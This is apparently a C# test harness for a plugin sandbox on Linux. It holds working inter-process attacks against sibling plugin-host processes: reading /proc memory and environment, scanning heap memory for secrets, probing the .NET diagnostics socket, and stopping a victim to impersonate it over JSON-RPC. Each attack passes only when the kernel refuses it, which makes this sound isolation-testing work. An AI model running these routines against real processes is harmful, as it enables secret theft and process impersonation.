using System.Buffers.Binary;
using System.Globalization;
using System.Net.Sockets;
using System.Runtime.InteropServices;
using System.Text;
using System.Text.Json;

namespace Attacker;

/// <summary>
/// What an isolated plugin tries against another isolated plugin's process of the same account (Linux /proc): find it (the
/// processes of its own uid with <c>plugin-host</c> in their command line), then open its channel (stdin, stdout), read its
/// environment, its memory and its working directory, and talk to its .NET runtime over the diagnostics socket. Where the channel opens, it stops the victim, speaks as it on its
/// channel (a JSON-RPC <c>GetSecretAsync</c> for the victim's secret) and reads the host's answer meant for it.
/// Writes one PEERS line (the processes it attacked) and one CHECK per attack; a refusal must be the kernel's (EACCES/EPERM).
/// </summary>
internal static partial class PeerAttack
{
    private const int OpenReadOnly = 0, OpenWriteOnly = 1, OpenNonBlocking = 0x800, OpenCloseOnExec = 0x80000;
    private const int SigStop = 19, SigCont = 18;
    private const int Eacces = 13, Eperm = 1;
    private static readonly TimeSpan FindTimeout = TimeSpan.FromSeconds(30);
    private static readonly TimeSpan AnswerTimeout = TimeSpan.FromSeconds(10);

    public static void Run(string victimId, string secretKey, string secretPrefix, Action<string, bool, string> check, Action<string> line)
    {
        var peers = FindPeers();
        line("PEERS: " + (peers.Count == 0 ? "none" : string.Join(",", peers)));
        if (peers.Count == 0)
        {
            check("proc_peers", false, $"no other plugin-host process of uid {getuid()} within {FindTimeout.TotalSeconds} s: nothing was attacked");
            return;
        }

        check("proc_peers", true, $"{peers.Count} process(es) of this account to attack");
        Attack("proc_peer_fd0", peers, pid => OpenFd($"/proc/{pid}/fd/0", OpenReadOnly | OpenNonBlocking), check);
        Attack("proc_peer_fd1", peers, pid => OpenFd($"/proc/{pid}/fd/1", OpenWriteOnly | OpenNonBlocking), check);
        Attack("proc_peer_environ", peers, pid => $"{File.ReadAllBytes($"/proc/{pid}/environ").Length} bytes", check);
        Attack("proc_peer_mem", peers, ReadMemory, check);
        Attack("proc_peer_cwd", peers, pid => ReadLink($"/proc/{pid}/cwd"), check);
        Attack("proc_peer_secret", peers, pid => ScanMemory(pid, secretPrefix), check);
        Attack("proc_peer_diagnostics", peers, AskRuntime, check);

        string? victim = null;
        foreach (var pid in peers)
        {
            try
            {
                if (Path.GetFileName(ReadLink($"/proc/{pid}/cwd")) == victimId)
                {
                    victim = pid.ToString(CultureInfo.InvariantCulture);
                }
            }
            catch (Exception ex) when (Refusal(ex) is not null)
            {
                // Its working directory is not ours to see: the channel attack needs to know which process is the victim.
            }
        }

        if (victim is null)
        {
            // Without the working directory, try every peer's channel: any that opens is a leak the checks above report too.
            check("proc_peer_channel", peers.All(p => !CanOpen($"/proc/{p}/fd/1", OpenWriteOnly | OpenNonBlocking)),
                $"{victimId}'s process not identifiable; no peer's channel opens");
            return;
        }

        try
        {
            var answer = SpeakAs(int.Parse(victim, CultureInfo.InvariantCulture), secretKey);
            check("proc_peer_channel", false, $"spoke as {victimId} (pid {victim}) on its channel; the host answered: {answer}");
        }
        catch (Exception ex) when (Refusal(ex) is { } refused)
        {
            check("proc_peer_channel", true, $"{victimId}'s channel refused: {refused}");
        }
    }

    /// <summary>Processes of this uid running <c>plugin-host</c>, not this one; waits a bounded time for the first.</summary>
    private static List<int> FindPeers()
    {
        var self = Environment.ProcessId;
        var uid = getuid().ToString(CultureInfo.InvariantCulture);
        var deadline = DateTime.UtcNow + FindTimeout;
        while (true)
        {
            var found = new List<int>();
            foreach (var dir in Directory.EnumerateDirectories("/proc"))
            {
                if (!int.TryParse(Path.GetFileName(dir), out var pid) || pid == self)
                {
                    continue;
                }

                try
                {
                    var status = File.ReadAllLines(Path.Combine(dir, "status"));
                    var realUid = status.First(l => l.StartsWith("Uid:", StringComparison.Ordinal)).Split('\t', StringSplitOptions.RemoveEmptyEntries)[1];
                    var state = status.First(l => l.StartsWith("State:", StringComparison.Ordinal));
                    if (realUid == uid && !state.Contains('Z') && File.ReadAllText(Path.Combine(dir, "cmdline")).Contains("plugin-host", StringComparison.Ordinal))
                    {
                        found.Add(pid);
                    }
                }
                catch (Exception ex) when (ex is IOException or UnauthorizedAccessException)
                {
                    // Ended while we looked, or not ours.
                }
            }

            if (found.Count > 0 || DateTime.UtcNow > deadline)
            {
                return found;
            }

            Thread.Sleep(200);
        }
    }

    private static void Attack(string name, List<int> peers, Func<int, string> attack, Action<string, bool, string> check)
    {
        var results = new List<string>();
        var leaks = 0;
        var unclear = 0;
        foreach (var pid in peers)
        {
            try
            {
                results.Add($"{pid}: got {attack(pid)}");
                leaks++;
            }
            catch (Exception ex)
            {
                var refused = Refusal(ex);
                unclear += refused is null ? 1 : 0;
                results.Add($"{pid}: " + (refused ?? $"unexpected {ex.GetType().Name}: {ex.Message}"));
            }
        }

        check(name, leaks == 0 && unclear == 0, string.Join("; ", results));
    }

    /// <summary>Searches the process's writable memory (heap, stacks) for <paramref name="prefix"/>, as UTF-8 and UTF-16, as an
    /// attacker who knows what the victim's secrets look like would: what follows the first hit, or how much it read.</summary>
    private static string ScanMemory(int pid, string prefix)
    {
        var maps = File.ReadAllLines($"/proc/{pid}/maps");
        var fd = open($"/proc/{pid}/mem", OpenReadOnly | OpenCloseOnExec);
        if (fd < 0)
        {
            throw new NativeRefusal("mem", Marshal.GetLastPInvokeError(), null);
        }

        try
        {
            byte[][] needles = [Encoding.UTF8.GetBytes(prefix), Encoding.Unicode.GetBytes(prefix)];
            var chunk = new byte[1 << 20];
            long scanned = 0;
            foreach (var map in maps.Select(l => l.Split(' ', StringSplitOptions.RemoveEmptyEntries)).Where(f => f[1].StartsWith("rw", StringComparison.Ordinal)))
            {
                var range = map[0].Split('-').Select(a => long.Parse(a, NumberStyles.HexNumber, CultureInfo.InvariantCulture)).ToArray();
                for (var at = range[0]; at < range[1] && scanned < (1L << 30); at += chunk.Length - 256)
                {
                    var n = (int)pread(fd, chunk, (nint)Math.Min(chunk.Length, range[1] - at), at);
                    if (n <= 0)
                    {
                        break;
                    }

                    scanned += n;
                    for (var k = 0; k < needles.Length; k++)
                    {
                        var hit = chunk.AsSpan(0, n).IndexOf(needles[k]);
                        if (hit >= 0)
                        {
                            var tail = chunk.AsSpan(hit, Math.Min(n - hit, 128));
                            var text = k == 0 ? Encoding.UTF8.GetString(tail) : Encoding.Unicode.GetString(tail[..(tail.Length & ~1)]);
                            return $"found in its memory at 0x{at + hit:x}: {new string(text.TakeWhile(c => c > ' ' && c < 127 && c != '"').ToArray())}";
                        }
                    }
                }
            }

            return $"read {scanned / (1024 * 1024)} MB of its memory (no '{prefix}' in it)";
        }
        finally
        {
            _ = close(fd);
        }
    }

    /// <summary>
    /// Finds the process's .NET diagnostics socket (<c>dotnet-diagnostic-&lt;pid&gt;-&lt;key&gt;-socket</c>, in <c>/tmp</c> or bound
    /// anywhere: <c>/proc/net/unix</c> lists every bound socket), connects, and asks the runtime for its ProcessInfo (diagnostics
    /// IPC protocol, command set 0x04, command 0x00): with that open it could as well read and set its environment or trace it
    /// (EventPipe). Refused: no such socket bound, or connect refused (EACCES, EPERM, ECONNREFUSED: a stale file nobody listens on).
    /// </summary>
    private static string AskRuntime(int pid)
    {
        var name = $"dotnet-diagnostic-{pid}-";
        var paths = Directory.EnumerateFiles("/tmp", name + "*-socket")
            .Concat(File.ReadLines("/proc/net/unix").Skip(1).Select(l => l.Split(' ', StringSplitOptions.RemoveEmptyEntries))
                .Where(f => f.Length >= 8 && Path.GetFileName(f[7]).StartsWith(name, StringComparison.Ordinal)).Select(f => f[7]))
            .Distinct(StringComparer.Ordinal).ToList();
        if (paths.Count == 0)
        {
            throw new NoDiagnosticsSocket($"no {name}*-socket in /tmp nor bound (/proc/net/unix)");
        }

        var refusals = new List<string>();
        foreach (var path in paths)
        {
            using var socket = new Socket(AddressFamily.Unix, SocketType.Stream, ProtocolType.Unspecified);
            try
            {
                socket.Connect(new UnixDomainSocketEndPoint(path));
            }
            catch (SocketException ex) when (ex.SocketErrorCode is SocketError.AccessDenied or SocketError.ConnectionRefused)
            {
                refusals.Add($"{path}: connect {ex.SocketErrorCode}");
                continue;
            }

            socket.ReceiveTimeout = (int)AnswerTimeout.TotalMilliseconds;
            var request = new byte[20];
            "DOTNET_IPC_V1\0"u8.CopyTo(request);
            BinaryPrimitives.WriteUInt16LittleEndian(request.AsSpan(14), (ushort)request.Length);
            request[16] = 0x04; // ProcessCommandSet
            request[17] = 0x00; // ProcessInfo
            socket.Send(request);
            var answer = new List<byte>();
            var buffer = new byte[4096];
            try
            {
                int n;
                while ((n = socket.Receive(buffer)) > 0)
                {
                    answer.AddRange(buffer.AsSpan(0, n));
                }
            }
            catch (SocketException ex) when (ex.SocketErrorCode == SocketError.TimedOut)
            {
                // Connected to its runtime already; what it said so far is the answer.
            }

            return $"{path} answered: {DescribeProcessInfo(answer.ToArray())}";
        }

        throw new NoDiagnosticsSocket(string.Join("; ", refusals));
    }

    /// <summary>The ProcessInfo answer: header (magic, size, 0xFF 0x00 for OK), pid, runtime cookie, then command line, OS and
    /// architecture as length-prefixed UTF-16 strings.</summary>
    private static string DescribeProcessInfo(byte[] answer)
    {
        if (answer.Length < 20 || !answer.AsSpan(0, 14).SequenceEqual("DOTNET_IPC_V1\0"u8))
        {
            return $"{answer.Length} bytes: {Convert.ToHexString(answer, 0, Math.Min(answer.Length, 32))}";
        }

        if (answer[16] != 0xFF || answer[17] != 0x00 || answer.Length < 44)
        {
            return $"the runtime's reply {answer[16]:x2}/{answer[17]:x2}, {answer.Length} bytes";
        }

        var pid = BinaryPrimitives.ReadUInt64LittleEndian(answer.AsSpan(20));
        var at = 44;
        var chars = (int)BinaryPrimitives.ReadUInt32LittleEndian(answer.AsSpan(at));
        var commandLine = Encoding.Unicode.GetString(answer, at + 4, Math.Max(0, Math.Min(chars * 2, answer.Length - at - 4))).TrimEnd('\0');
        return $"ProcessInfo: pid {pid}, command line '{commandLine}'";
    }

    /// <summary>Reads 16 bytes of the victim's memory at the start of its first readable mapping.</summary>
    private static string ReadMemory(int pid)
    {
        string? mapsError = null;
        long address = 0;
        try
        {
            var first = File.ReadLines($"/proc/{pid}/maps").First(l => l.Split(' ')[1].StartsWith('r'));
            address = long.Parse(first[..first.IndexOf('-')], NumberStyles.HexNumber, CultureInfo.InvariantCulture);
        }
        catch (Exception ex) when (Refusal(ex) is { } refused)
        {
            mapsError = "maps " + refused;
        }

        var fd = open($"/proc/{pid}/mem", OpenReadOnly | OpenCloseOnExec);
        if (fd < 0)
        {
            throw new NativeRefusal("mem", Marshal.GetLastPInvokeError(), mapsError);
        }

        try
        {
            if (mapsError is not null)
            {
                return $"mem opened ({mapsError})";
            }

            var buffer = new byte[16];
            var read = pread(fd, buffer, buffer.Length, address);
            if (read < 0)
            {
                throw new NativeRefusal("mem read", Marshal.GetLastPInvokeError(), null);
            }

            return $"{read} bytes at 0x{address:x}: {Convert.ToHexString(buffer, 0, (int)read)}";
        }
        finally
        {
            _ = close(fd);
        }
    }

    private static string ReadLink(string path)
    {
        var buffer = new byte[4096];
        var n = readlink(path, buffer, buffer.Length);
        return n >= 0 ? Encoding.UTF8.GetString(buffer, 0, (int)n) : throw new NativeRefusal("readlink " + path, Marshal.GetLastPInvokeError(), null);
    }

    private static string OpenFd(string path, int flags)
    {
        var fd = open(path, flags | OpenCloseOnExec);
        if (fd < 0)
        {
            throw new NativeRefusal(path, Marshal.GetLastPInvokeError(), null);
        }

        _ = close(fd);
        return "opened " + path;
    }

    private static bool CanOpen(string path, int flags)
    {
        try
        {
            OpenFd(path, flags);
            return true;
        }
        catch (NativeRefusal)
        {
            return false;
        }
    }

    /// <summary>Stops the victim (so the host's answer waits in its stdin for us), writes a request into its stdout, reads
    /// the answer from its stdin, and lets it go on.</summary>
    private static string SpeakAs(int pid, string secretKey)
    {
        if (kill(pid, SigStop) != 0)
        {
            throw new NativeRefusal("SIGSTOP", Marshal.GetLastPInvokeError(), null);
        }

        int write = -1, read = -1;
        try
        {
            WaitStopped(pid);
            write = open($"/proc/{pid}/fd/1", OpenWriteOnly | OpenCloseOnExec);
            if (write < 0)
            {
                throw new NativeRefusal($"/proc/{pid}/fd/1", Marshal.GetLastPInvokeError(), null);
            }

            read = open($"/proc/{pid}/fd/0", OpenReadOnly | OpenNonBlocking | OpenCloseOnExec);
            if (read < 0)
            {
                throw new NativeRefusal($"/proc/{pid}/fd/0", Marshal.GetLastPInvokeError(), null);
            }

            var body = JsonSerializer.SerializeToUtf8Bytes(new Dictionary<string, object>
            {
                ["jsonrpc"] = "2.0", ["id"] = "attacker-1", ["method"] = "GetSecretAsync", ["params"] = new[] { secretKey },
            });
            var message = Encoding.ASCII.GetBytes($"Content-Length: {body.Length}\r\n\r\n").Concat(body).ToArray();
            if (write_(write, message, message.Length) != message.Length)
            {
                throw new IOException("short write on the victim's channel: errno " + Marshal.GetLastPInvokeError());
            }

            return ReadAnswer(read);
        }
        finally
        {
            if (write >= 0)
            {
                _ = close(write);
            }

            if (read >= 0)
            {
                _ = close(read);
            }

            _ = kill(pid, SigCont);
        }
    }

    private static void WaitStopped(int pid)
    {
        var deadline = DateTime.UtcNow + TimeSpan.FromSeconds(5);
        while (DateTime.UtcNow < deadline)
        {
            if (Directory.EnumerateDirectories($"/proc/{pid}/task").All(t => File.ReadAllText(Path.Combine(t, "stat")) is var s && s[(s.LastIndexOf(')') + 2)] == 'T'))
            {
                return;
            }

            Thread.Sleep(10);
        }
    }

    /// <summary>Reads framed JSON-RPC messages until the answer to our request (others meant for the victim are lost).</summary>
    private static string ReadAnswer(int fd)
    {
        var data = new List<byte>();
        var deadline = DateTime.UtcNow + AnswerTimeout;
        var buffer = new byte[4096];
        while (DateTime.UtcNow < deadline)
        {
            var n = read_(fd, buffer, buffer.Length);
            if (n > 0)
            {
                data.AddRange(buffer.AsSpan(0, (int)n));
            }
            else
            {
                Thread.Sleep(10);
            }

            while (TakeMessage(data) is { } json)
            {
                using var doc = JsonDocument.Parse(json);
                if (doc.RootElement.TryGetProperty("id", out var id) && id.ValueKind == JsonValueKind.String && id.GetString() == "attacker-1")
                {
                    return doc.RootElement.TryGetProperty("result", out var result) ? "result " + result.GetRawText() : json;
                }
            }
        }

        return "no answer in time (the request was still written as the victim)";
    }

    private static string? TakeMessage(List<byte> data)
    {
        var text = Encoding.ASCII.GetString(data.ToArray());
        var end = text.IndexOf("\r\n\r\n", StringComparison.Ordinal);
        if (end < 0)
        {
            return null;
        }

        var header = text[..end].Split("\r\n").First(h => h.StartsWith("Content-Length:", StringComparison.OrdinalIgnoreCase));
        var length = int.Parse(header["Content-Length:".Length..].Trim(), CultureInfo.InvariantCulture);
        if (data.Count < end + 4 + length)
        {
            return null;
        }

        var json = Encoding.UTF8.GetString(data.ToArray(), end + 4, length);
        data.RemoveRange(0, end + 4 + length);
        return json;
    }

    /// <summary>The kernel's refusal in <paramref name="ex"/> (permission denied; for the diagnostics socket, none listening), or null when it is something else.</summary>
    private static string? Refusal(Exception ex) => ex switch
    {
        UnauthorizedAccessException => "denied " + ex.GetType().Name,
        NativeRefusal { Errno: Eacces or Eperm } native => native.Message,
        NoDiagnosticsSocket => "refused: " + ex.Message,
        IOException { HResult: Eacces or Eperm } => "denied " + ex.Message,
        _ => null,
    };

    [LibraryImport("libc", EntryPoint = "open", StringMarshalling = StringMarshalling.Utf8, SetLastError = true)]
    private static partial int open(string path, int flags);

    [LibraryImport("libc", SetLastError = true)]
    private static partial int close(int fd);

    [LibraryImport("libc", StringMarshalling = StringMarshalling.Utf8, SetLastError = true)]
    private static partial nint readlink(string path, byte[] buffer, nint size);

    [LibraryImport("libc", EntryPoint = "read", SetLastError = true)]
    private static partial nint read_(int fd, byte[] buffer, nint count);

    [LibraryImport("libc", EntryPoint = "write", SetLastError = true)]
    private static partial nint write_(int fd, byte[] buffer, nint count);

    [LibraryImport("libc", SetLastError = true)]
    private static partial nint pread(int fd, byte[] buffer, nint count, long offset);

    [LibraryImport("libc", SetLastError = true)]
    private static partial int kill(int pid, int signal);

    [LibraryImport("libc")]
    private static partial uint getuid();
}
